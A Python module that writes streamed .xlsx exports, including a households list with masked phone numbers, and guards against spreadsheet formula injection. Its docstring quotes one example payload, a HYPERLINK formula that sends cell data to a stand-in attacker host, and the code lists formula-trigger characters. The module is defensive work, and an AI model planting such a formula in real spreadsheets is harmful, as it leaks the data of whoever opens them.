"""导出 — writing .xlsx files: the streamed writer and the households list export.

:func:`write_xlsx` is the roster import's counterpart, used by every export: a
streamed (``write_only``) sheet written under a temporary name and renamed,
so an interrupted export never leaves a half file under the chosen name, and
every cell that a spreadsheet would run as a formula written as text
(:func:`xlsx_row`).  The households list goes out with masked phones only,
written by the list documents (:mod:`app.services.documents.list_export`).
"""

from __future__ import annotations

import contextlib
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

from app.db import Database
from app.progress import Cancel, ProgressFn
from app.services.households.lookup import HouseholdFilter, HouseholdHit

# what Excel, WPS and LibreOffice may take as the start of a formula (or DDE command)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def xlsx_row(ws: Any, values: Iterable[Any]) -> list[Any]:
    """*values* as cells for ``ws.append`` of the write-only sheet *ws*, every text a text.

    openpyxl writes a string beginning with ``=`` as a live formula, so a name
    like ``=HYPERLINK("http://evil.example/?d="&A2,"x")`` would run when the
    export is opened (formula injection).  Every ``str`` becomes a cell of
    type ``s`` (a shared string, never a formula or an error code); one that
    begins like a formula (:data:`FORMULA_STARTS`) also gets the ``quotePrefix``
    style, which Excel and WPS show as text and keep as text when the cell is
    edited.  The text itself is unchanged (but for control characters, which
    XML cannot hold).  Every xlsx the program writes goes
    through here (:func:`write_xlsx`).
    """
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    out: list[Any] = []
    for value in values:
        if isinstance(value, str):
            # control characters cannot be in the sheet's XML; openpyxl would raise
            cell = WriteOnlyCell(ws, ILLEGAL_CHARACTERS_RE.sub("", value))
            cell.data_type = "s"
            if value.startswith(FORMULA_STARTS):
                cell.quotePrefix = True
            out.append(cell)
        else:
            out.append(value)
    return out


def write_workbook(
    path: Path | str, sheets: Iterable[tuple[str, Sequence[str], Iterable[Sequence[Any]]]]
) -> list[int]:
    """Several sheets (name, header, rows) into one workbook at *path*, as
    :func:`write_xlsx` writes one; returns each sheet's row count."""
    from openpyxl import Workbook

    path = Path(path)
    wb = Workbook(write_only=True)
    tmp = path.with_suffix(path.suffix + ".part")
    counts: list[int] = []
    try:
        for title, header, rows in sheets:
            ws = wb.create_sheet(title[:31])  # Excel's limit of a sheet name
            ws.append(xlsx_row(ws, header))
            count = 0
            for row in rows:
                ws.append(xlsx_row(ws, row))
                count += 1
            counts.append(count)
        wb.save(tmp)
        tmp.replace(path)
    except BaseException:
        with contextlib.suppress(OSError):
            tmp.unlink(missing_ok=True)
        raise
    return counts


def write_xlsx(
    path: Path | str,
    sheet: str,
    header: Sequence[str],
    rows: Iterable[Sequence[Any]],
) -> int:
    """Stream *rows* under *header* into a new workbook at *path*; returns the row count.

    openpyxl's ``write_only`` mode keeps memory flat however long *rows* is; the
    file is written as ``<path>.part`` and renamed when complete, and a failure
    (or a cancel raised by the *rows* iterator) removes the partial file.
    """
    return write_xlsx_sheets(path, [(sheet, header, rows)])[0]


def write_xlsx_sheets(
    path: Path | str,
    sheets: Sequence[tuple[str, Sequence[str], Iterable[Sequence[Any]]]],
) -> list[int]:
    """:func:`write_xlsx` with several sheets (name, header, rows); the row count of each."""
    from openpyxl import Workbook

    path = Path(path)
    wb = Workbook(write_only=True)
    counts: list[int] = []
    tmp = path.with_suffix(path.suffix + ".part")
    open_sheets: list[Any] = []
    try:
        for name, header, rows in sheets:
            ws = wb.create_sheet(name)
            open_sheets.append(ws)
            ws.append(xlsx_row(ws, header))
            count = 0
            for row in rows:
                ws.append(xlsx_row(ws, row))
                count += 1
            counts.append(count)
        wb.save(tmp)
        tmp.replace(path)
    except BaseException:
        for ws in open_sheets:
            if not ws.closed:
                with contextlib.suppress(Exception):
                    ws.close()  # ends openpyxl's row generator and its temporary sheet file
        tmp.unlink(missing_ok=True)
        raise
    return counts


HOUSEHOLD_EXPORT_HEADER = ("户号", "户主", "村民小组", "联系电话", "积分", "状态")


def export_row(h: HouseholdHit) -> list[Any]:
    return [
        h.number,
        h.head_name,
        h.group_name,
        h.phone_masked,
        h.balance,
        "在册" if h.active else "已注销",
    ]


def export_households_xlsx(
    db: Database,
    flt: HouseholdFilter,
    path: Path,
    progress: ProgressFn | None = None,
    cancel: Cancel | None = None,
) -> int:
    """The list (masked phones) to an .xlsx file, page by page; returns the row count."""
    from app.services.documents.list_export import households_document, write_list_xlsx

    return write_list_xlsx(households_document(db, flt), path, progress, cancel)
